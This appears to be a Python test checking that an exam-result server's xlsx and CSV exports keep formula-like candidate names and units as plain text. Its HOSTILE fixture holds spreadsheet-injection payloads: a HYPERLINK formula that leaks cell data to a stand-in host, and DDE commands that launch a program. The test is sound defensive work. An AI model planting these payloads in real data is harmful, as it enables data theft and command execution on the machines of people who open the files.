"""Exports never run what a site typed (issue 12 item 10): names, units and departments
starting with = + - @ (or tab/CR) stay plain text in the centre's xlsx and CSV."""
from __future__ import annotations

import csv
import io
import sqlite3

import requests
from openpyxl import load_workbook

from contracts.upload import upload_bundle
from hall_server.result_export import build_result_bundle

HOSTILE = {
    "name": '=HYPERLINK("http://evil.invalid/?d="&C2,"点击查看成绩")',
    "unit": "+1+cmd|' /C calc'!A0",
    "department": "@SUM(1+1)*cmd|' /C calc'!A0",
    "id_number": "-2+3+cmd|' /C calc'!A0",
}


def test_formula_like_values_stay_text(tmp_path, make_hall, start_central):
    db, info = make_hall("17")
    c = sqlite3.connect(db)
    t = info["tickets"][0]
    c.execute("UPDATE candidates SET name = ?, unit = ?, department = ?, id_number = ? WHERE ticket = ?",
              (HOSTILE["name"], HOSTILE["unit"], HOSTILE["department"], HOSTILE["id_number"], t))
    c.execute("UPDATE candidates SET name = ? WHERE ticket = ?", ("\t=1+1", info["tickets"][1]))
    c.execute("UPDATE candidates SET name = ? WHERE ticket = ?", ("\r=1+1", info["tickets"][2]))
    c.commit()
    c.close()
    central = start_central(answer_keys=info["keys"])
    f = tmp_path / "b.hallresult"
    f.write_bytes(build_result_bundle(db))
    assert upload_bundle(f, central.url).state == "accepted"
    typed = {*HOSTILE.values(), "\t=1+1", "\r=1+1"}
    for name in ("candidates", "results", "progress"):
        r = requests.get(f"{central.url}/export/{name}.xlsx", headers=central.admin)
        ws = load_workbook(io.BytesIO(r.content)).active
        cells = [cell for row in ws.iter_rows() for cell in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"], name      # no formula anywhere
        mine = [c for c in cells if c.value in typed]
        assert mine, name                                                         # the text is kept as typed
        assert all(c.data_type == "s" and c.quotePrefix for c in mine), name
        r = requests.get(f"{central.url}/export/{name}.csv", headers=central.admin)
        rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"), newline="")))
        fields = [v for row in rows for v in row]
        assert not [v for v in fields if v[:1] in ("=", "+", "-", "@", "\t", "\r")], name
        assert {v[1:] for v in fields if v.startswith("'")} & typed, name          # ' + the text as typed
    rows = list(csv.reader(io.StringIO(requests.get(f"{central.url}/export/candidates.csv", headers=central.admin)
                                       .content.decode("utf-8-sig"), newline="")))
    row = next(r for r in rows if r[0] == t)
    assert row[1] == "'" + HOSTILE["name"] and row[3] == "'" + HOSTILE["unit"] and row[2] == "'" + HOSTILE["id_number"]
